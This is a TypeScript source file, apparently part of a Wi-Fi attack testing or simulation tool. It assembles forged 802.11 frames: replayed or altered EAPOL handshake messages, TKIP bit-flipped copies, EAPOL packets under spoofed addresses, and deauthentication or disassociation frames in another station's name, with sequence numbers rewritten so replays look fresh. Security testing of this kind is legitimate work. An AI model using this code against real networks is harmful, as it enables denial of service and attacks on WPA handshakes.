import type { AirFrame, AirKind } from './AirFrame.js';
import { bitFlipped } from './bitFlipped.js';

/** What an attacker sends: something that was heard, the latest of its kind or the first, with changes. */
export interface Replay {
  readonly replay: AirKind;
  readonly by?: 'ap' | 'station';
  /** What was for everybody. */
  readonly isToAll?: boolean;
  /** The first one heard, instead of the latest. */
  readonly isFirst?: boolean;
  readonly times?: number;
  /** What is different in each: offsets from the start of the EAPOL packet. */
  readonly changes?: ReadonlyArray<Change>;
  /** One bit of what TKIP has encrypted is different, and only Michael can tell. */
  readonly isBitFlipped?: boolean;
}

export interface Change {
  readonly at: number;
  /** In hexadecimal, or so many random octets. */
  readonly octets: string | number;
}

/** An EAPOL packet of the attacker's own, under anybody's address. */
export interface ForgedEapol {
  readonly eapol: string;
  readonly from: string;
  readonly to: string;
  readonly bssid: string;
  readonly times?: number;
}

/** A farewell in somebody's name, in the clear. */
export interface ForgedFarewell {
  readonly farewell: 'deauthentication' | 'disassociation';
  readonly reason: number;
  readonly from: string;
  readonly to: string;
  readonly bssid: string;
  readonly times?: number;
}

export type Forgery = Replay | ForgedEapol | ForgedFarewell;

/** What was heard of each kind, by each side: the first and the latest. */
export type Heard = ReadonlyMap<string, { readonly first: AirFrame; readonly latest: AirFrame }>;

const nameOf = (by: string, kind: string, isToAll: boolean): string => `${by} ${kind}${isToAll ? ' to all' : ''}`;

export const heardAlso = (heard: Heard, frame: AirFrame): Heard => {
  const name = nameOf(frame.by, frame.kind, frame.isGroup);
  return new Map(heard).set(name, { first: heard.get(name)?.first ?? frame, latest: frame });
};

const RETRY = 0x08;
const SEQUENCE_AT = 22;
const FROM_DS = 0x02;
const DATA = 0x08;
const LLC_OF_EAPOL = [0xaa, 0xaa, 0x03, 0, 0, 0, 0x88, 0x8e];
const SUBTYPES = { deauthentication: 0xc0, disassociation: 0xa0 } as const;

const octetsOf = (text: string): Uint8Array =>
  Uint8Array.from(text.match(/[0-9a-f]{2}/gi) ?? [], (pair) => Number.parseInt(pair, 16));

/** The number of the sequence is the attacker's: nothing may be taken for a repetition by the link. */
const numbered = (bytes: Uint8Array, number: number): Uint8Array => {
  const copy = Uint8Array.from(bytes);
  copy[1] = (copy[1] ?? 0) & ~RETRY;
  copy[SEQUENCE_AT] = (number << 4) & 0xf0;
  copy[SEQUENCE_AT + 1] = (number >> 4) & 0xff;
  return copy;
};

const header = (
  control: number,
  flags: number,
  { from, to, bssid }: Omit<ForgedEapol, 'eapol'>,
  isData: boolean,
): ReadonlyArray<number> => {
  const [second, third] = isData ? [bssid, from] : [from, bssid];
  return [control, flags, 0, 0, ...octetsOf(to), ...octetsOf(second), ...octetsOf(third), 0, 0];
};

const changed = (frame: AirFrame, changes: ReadonlyArray<Change>, random: (length: number) => Uint8Array): Uint8Array => {
  const copy = Uint8Array.from(frame.bytes);
  for (const { at, octets } of changes)
    copy.set(typeof octets === 'number' ? random(octets) : octetsOf(octets), (frame.eapolAt ?? 0) + at);
  return copy;
};

const templateOf = (heard: Heard, { replay, by = 'ap', isToAll = false, isFirst = false }: Replay): AirFrame | undefined => {
  const seen = heard.get(nameOf(by, replay, isToAll));
  return isFirst ? seen?.first : seen?.latest;
};

const bodyOf = (forgery: Forgery, heard: Heard, random: (length: number) => Uint8Array): Uint8Array | undefined => {
  if ('replay' in forgery) {
    const template = templateOf(heard, forgery);
    if (template !== undefined && forgery.isBitFlipped === true) return bitFlipped(template.bytes);
    return template && changed(template, forgery.changes ?? [], random);
  }
  if ('eapol' in forgery)
    return Uint8Array.from([...header(DATA, FROM_DS, forgery, true), ...LLC_OF_EAPOL, ...octetsOf(forgery.eapol)]);
  return Uint8Array.from([...header(SUBTYPES[forgery.farewell], 0, forgery, false), forgery.reason, 0]);
};

/** The frames of a forgery; none where what it repeats was not heard. `next` is a number no frame had yet. */
export const framesOf = (
  forgery: Forgery,
  heard: Heard,
  random: (length: number) => Uint8Array,
  next: () => number,
): ReadonlyArray<Uint8Array> =>
  Array.from({ length: forgery.times ?? 1 }, () => bodyOf(forgery, heard, random)).flatMap((bytes) =>
    bytes === undefined ? [] : [numbered(bytes, next())],
  );
